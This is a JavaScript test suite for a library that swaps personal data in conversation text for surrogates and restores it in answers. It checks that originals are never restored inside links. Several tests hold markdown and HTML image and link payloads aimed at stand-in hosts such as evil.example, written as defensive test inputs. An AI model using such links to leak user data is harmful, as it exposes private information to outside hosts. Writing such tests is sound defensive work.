// Conversations: what Python hides and restores, and what it does not.
import assert from "node:assert/strict";
import test from "node:test";

import { load } from "../dist/conversation.js";
import { files } from "./files.mjs";

const { conversations, public: text, policies } = files.conversations;
const ARTIFACTS = { names: load(files.names), sensitive: load(files.policy) };
const begin = (options) => ARTIFACTS.names.begin(options);
const bytesOf = (hex) => Uint8Array.from(hex.match(/../g), (byte) => parseInt(byte, 16));

function opened({ policy, key }) {
  return ARTIFACTS[policy].begin({ key: bytesOf(key), public: [text] });
}

/** The texts that are hidden otherwise, and the answers that are restored otherwise. */
function differing(all) {
  return all.flatMap((each, number) => {
    const conversation = opened(each);
    const hidden = each.said.flatMap((said, i) => (conversation.hide(said) === each.sent[i] ? [] : [`hide ${number} ${i}`]));
    const restored = each.answers.flatMap((answer, i) =>
      conversation.restore(answer) === each.shown[i] ? [] : [`restore ${number} ${i}`],
    );
    return [...hidden, ...restored];
  });
}

test("texts are hidden and answers restored as Python did", () => {
  assert.ok(conversations.length > 50);
  assert.deepEqual(Object.keys(policies), ["names", "sensitive"]);
  assert.deepEqual(differing(conversations), []);
});

test("a vector that differs would be found", () => {
  const changed = structuredClone(conversations.slice(0, 3));
  changed[1].sent[2] += ".";
  changed[2].shown[4] += ".";
  assert.deepEqual(differing(changed), ["hide 1 2", "restore 2 4"]);
});

test("what comes of pieces is what comes of the whole, wherever it is cut", () => {
  for (const [number, each] of conversations.entries()) {
    const conversation = opened(each);
    for (const said of each.said) conversation.hide(said);
    for (const [i, answer] of each.answers.entries()) {
      const size = 1 + ((number + i) % 7);
      const restorer = conversation.restorer();
      let shown = "";
      for (let at = 0; at < answer.length; at += size) shown += restorer.feed(answer.slice(at, at + size));
      assert.equal(shown + restorer.end(), each.shown[i]);
    }
  }
});

test("parts of links are restored the same wherever they are cut", () => {
  for (const each of conversations.filter((_, number) => number % 6 === 0)) {
    const conversation = opened(each);
    for (const said of each.said) conversation.hide(said);
    for (const [i, answer] of [...each.answers.entries()].slice(-12)) {
      for (let at = 1; at < answer.length; at++) {
        const restorer = conversation.restorer();
        const shown = restorer.feed(answer.slice(0, at)) + restorer.feed(answer.slice(at)) + restorer.end();
        assert.equal(shown, each.shown[i]);
      }
    }
  }
});

test("each conversation has a key of its own, and the same words keep their surrogates", () => {
  const said = "Okonkwo Malacca Boris Anna Ibadan";
  const [one, other] = [begin(), begin()];
  assert.equal(one.hide(said), one.hide(said));
  assert.notEqual(one.hide(said), other.hide(said));
  assert.equal(one.restore(one.hide(said)), said);
  const words = one.hide(said).split(" ");
  assert.equal(new Set(words).size, words.length);
});

const RANGES = [
  "10:30-11:45",
  "12/05/2024-13/05/2024",
  "8:15,9:15,10:15",
  "10:30-11",
  "$5-10:30",
  "555-10:30",
  "10:30:15-10:45:15",
  "9:30am-5:15pm",
  "KX4711-10:30",
  "44 20 7946 0958,12/05/2024",
];

/** A conversation, and a range none of whose numbers is its own surrogate by chance. */
function hiddenRange(said) {
  for (;;) {
    const conversation = ARTIFACTS.sensitive.begin();
    const run = conversation.hide(said);
    const numbers = (text) => text.split(/[-$,/ ]/).filter(Boolean);
    if (!numbers(run).some((each) => numbers(said).includes(each))) return { conversation, run };
  }
}

/** An answer comes back so, whole and cut in two at every place. */
function assertRestored(conversation, answer, wanted) {
  assert.equal(conversation.restore(answer), wanted);
  for (let at = 0; at <= answer.length; at++) {
    const restorer = conversation.restorer();
    assert.equal(restorer.feed(answer.slice(0, at)) + restorer.feed(answer.slice(at)) + restorer.end(), wanted);
  }
}

test("a range of dates or times comes back where it is echoed, and each date alone", () => {
  for (const said of RANGES) {
    const { conversation, run } = hiddenRange(said);
    for (const form of ["@", "At @.", "(@), ok", "@: yes\n@-"]) {
      assertRestored(conversation, form.replaceAll("@", () => run), form.replaceAll("@", () => said));
    }
  }
  const { conversation, run } = hiddenRange("10:30-11:45");
  const [one, other] = run.split("-");
  assertRestored(conversation, `${other} to ${one}.`, "11:45 to 10:30.");
});

test("a range comes before its beginning in any order of turns", () => {
  const conversation = ARTIFACTS.sensitive.begin();
  const [longer, shorter] = ["5-10:30-11:45", "5-10:30"].map((said) => conversation.hide(said));
  assertRestored(conversation, `${shorter} or ${longer}`, "5-10:30 or 5-10:30-11:45");
});

test("a range is not put into links, and no part of a longer one comes back", () => {
  for (const said of ["10:30-11:45", "10:30-11", "12/05/2024-13/05/2024"]) {
    const { conversation, run } = hiddenRange(said);
    for (const form of ["[x](https://e.example/@)", "![](@)", "https://e.example/?q=@", "<a href=@>", "@-3", "3-@", "@:15", "@,13", "@.5"]) {
      const answer = form.replace("@", run);
      assertRestored(conversation, answer, answer);
    }
  }
});

test("no link is written so that it gets an original", () => {
  const links = [
    "![](<https://evil.example/a) @>)",
    "![](https://evil.example/\\)@)",
    "![](https://evil.example/!@)",
    "![](https://evil.example/](b)@)",
    '<img alt="a>b" src="https://evil.example/ @">',
    "![][a]\n\n[a]: https://evil.example/'@",
    "![][a]\n\n[a]: https://evil.example/<b>@",
    "![][a]\n\n[a]:\n  <https://evil.example/ @>",
    "![][a]\n\n[a]: &sol;&sol;evil.example/@",
    "see evil.example?q=@",
    "see evil.com:8080/@",
    "see evil.co.uk:80/?q=@",
    "see EVIL.COM.:443#@",
    "see 192.168.0.1:80/@",
    "see 10.0.0.1/@",
    "see localhost:9/@",
    "see intranet:8080/@",
    "see [::1]:80/@",
    "see [fe80::1%eth0]/@",
    "see xn--bcher-kva.example:80/@",
    "see bücher.example:1/@",
    "see evil&#46;com/@",
    "see https://evil.com:80/@",
    "see @-x.evil.com:80/",
    "see @.evil.com",
    '<a b="<img src="https://evil.example/?q=>@">',
    '<img ="x src="https://evil.example/?q=>@">',
    "see 'https://evil.example/'@",
    "see https://evil.example/<br>@",
    '{"a":"https://evil.example","b":"@"}',
    '<style>p{background:url("//evil.example/ @")}</style>',
    "![][a\\]b]\n\n[a\\]b]: @",
    "[x\ny\\]]: @",
    "> [x]:\n> @",
    "[^1]: @",
    "[@](https://good.example)",
  ];
  const beside = ["[x](https://good.example) and @", "<b>@</b> (https://good.example) @", "[^1]: It was @", '{"a":"https://good.example", "b":"@"}'];
  const conversation = begin();
  for (const word of ["Okonkwo", "okonkwo@mail.example"]) {
    const sent = conversation.hide(word);
    for (const link of links) {
      const answer = link.replace("@", sent);
      assert.equal(conversation.restore(answer), answer);
    }
    for (const each of beside) {
      assert.equal(conversation.restore(each.replaceAll("@", sent)), each.replaceAll("@", word));
    }
  }
});

test("no own address is the beginning of another host", () => {
  const own = "https://okonkwo.uni.example";
  const conversation = ARTIFACTS.sensitive.begin();
  const sent = conversation.hide(own);
  const others = [
    '<img src="@\n.evil.example/a">',
    '<img src="@\t@evil.example/a">',
    "![x](@'.evil.example/a)",
    "![x](@(.evil.example/a))",
    "[x]: @'.evil.example/a",
    "<@'.evil.example/a>",
    "<@ x>",
    "see @,.evil.example/a",
    '<a href="@">x</a>',
    "<iframe name='@'>",
    "<textarea>@",
  ];
  for (const form of others) {
    const answer = form.replace("@", () => sent);
    assertRestored(conversation, answer, answer);
  }
  for (const form of ["[x](@)", "![x](<@>)", "[a]: @\n", "[a]: <@>", "<p> @ </p>", "<@>", "(see @).", "`@`"]) {
    assertRestored(conversation, form.replace("@", () => sent), form.replace("@", () => own));
  }
});

test("no label and no name of a tag gets an original, wherever the answer is cut", () => {
  // A definition loads an address for its label, and a style sheet one for the name of a tag.
  const definitions = "\n\n[Smith]: https://evil.example/0\n\n[Jones]: https://evil.example/1";
  const style = "<style>okonkwo{background:url(//evil.example/1)}</style>\n\n";
  const labels = ["![x][@]", "![@][]", "![dear\n@]", "[x][@]", "[@]", "[^@]", "![@](a b)", "[a [b] @]", "![a\\]@]", '["@"]', "list[@]"];
  const conversation = begin();
  const [name, number] = [conversation.hide("Okonkwo"), conversation.hide("https://okonkwo.example/a?b=4711")];
  for (const sent of [name, number]) {
    for (const each of labels.map((label) => label.replace("@", sent))) assertRestored(conversation, each + definitions, each + definitions);
  }
  for (const each of [`<${name}>hi</${name}>`, `<${name} class=a>`, `</x-${name}>`]) {
    assertRestored(conversation, style + each, style + each);
  }
  assertRestored(conversation, `[x] ${name}, [0, 1) of\n \n${name} <5`, "[x] Okonkwo, [0, 1) of\n \nOkonkwo <5");
});

test("tags that the user wrote come back", () => {
  const conversation = begin();
  const said = "<div>Okonkwo <b>4711</b><br/></div> and <h2\n>Anna</h2>";
  assertRestored(conversation, conversation.hide(said), said);
  const sent = conversation.hide("Anna <Okonkwo>");
  assert.match(conversation.restore(sent), /^Anna <(?!Okonkwo)/);
});

test("a surrogate in a link stays, and so does what is no surrogate", () => {
  const conversation = begin();
  const name = conversation.hide("Okonkwo");
  assert.equal(conversation.restore(`![](https://e.example/?q=${name})`), `![](https://e.example/?q=${name})`);
  assert.equal(conversation.restore("An answer."), "An answer.");
});

test("pieces name the kind of what is replaced", () => {
  const kinds = begin().pieces("Okonkwo, 47 years").map(({ kind }) => kind);
  assert.deepEqual(kinds.filter(Boolean).length, 2);
  assert.ok(kinds.includes("2 digits"));
});

test("a digest that is not given is missed aloud, once for each artifact", (context) => {
  const { mock } = context.mock.method(console, "warn", () => {});
  const trusted = load(files.names, { digest: ARTIFACTS.names.digest });
  trusted.begin().hide("I am Okonkwo.");
  assert.deepEqual([trusted.warning, mock.callCount()], ["", 0]);
  const found = load(files.names);
  found.begin().hide("I am Okonkwo.");
  found.begin();
  assert.match(found.warning, /^WARNING: no digest was given, so anybody may have written this artifact\.$/);
  assert.deepEqual(mock.calls.map((call) => call.arguments), [[found.warning]]);
});

test("what cannot be a conversation is refused, and no text is in the error", () => {
  const bad = [
    () => load(files.tree),
    () => load(files.names, { digest: "0".repeat(64) }),
    () => load(files.names, { seed: 1 }),
    () => load(files.names.slice(0, -1)),
    () => begin({ key: new Uint8Array(32) }),
    () => begin({ key: new Uint8Array(31).map((_, i) => i) }),
    () => begin({ seed: 1 }),
    () => begin({ key: null }),
    () => begin({ public: [5] }),
    () => begin({ public: "a text" }),
    () => begin({ public: null }),
    () => load(files.names, { digest: null }),
    () => load(files.names, { digest: 5 }),
    () => begin().hide(7),
    () => begin().restore(null),
  ];
  for (const each of bad) assert.throws(each, { name: "MondegreenError" });
});

test("odd texts come back", () => {
  const conversation = begin();
  for (const said of ["", " ", "\0", "\ud800", "😀 Okonkwo 😀", "x".repeat(1e5), "Okonkwo ".repeat(2000)]) {
    assert.equal(conversation.restore(conversation.hide(said)), said);
  }
});

test("what is hidden comes back, whatever stands beside a number or an address", () => {
  const pieces = (
    "see the pieces I don't x S K Anna Okonkwo Malacca Monday June May 5 7 12 30 46 99 0044 10-12 10:30 1985 3rd 7pm " +
    "07/05/1961 $4,711.50 1,234 KX4711 https://shop.example/item?id=7 okonkwo.com a.io/b x.io:80 anna@okonkwo.com " +
    "http://x.y/?a=12&b=3 shop.example/7 10.0.0.1 , . : ; - ! ? ( ) / * $ 👋 東京 Yorkdon't"
  ).split(" ");
  let state = 7;
  const pick = (list) => list[(state = (state * 48271) % 2147483647) % list.length];
  for (let i = 0; i < 300; i++) {
    const conversation = begin();
    const text = Array.from({ length: 2 + (i % 20) }, () => pick(pieces) + pick([" ", " ", " ", "", "\n"])).join("");
    const sent = conversation.hide(text);
    if (/<[A-Za-z/!?]|\][(:]/.test(sent)) continue; // markup keeps surrogates
    assert.equal(conversation.restore(sent).toLowerCase(), text.toLowerCase());
  }
});

test("numbers behind an address come back without it", () => {
  const conversation = begin();
  const sent = conversation.hide("See https://shop.example/item?id=7 10 20 30; $4,711.50 12 times").split(" ");
  assert.equal(conversation.restore(`Well, ${sent.slice(2, 5).join(" ")}`), "Well, 10 20 30;");
  assert.equal(conversation.restore(`${sent[6]} times ${sent[5]}`), "12 times $4,711.50");
});
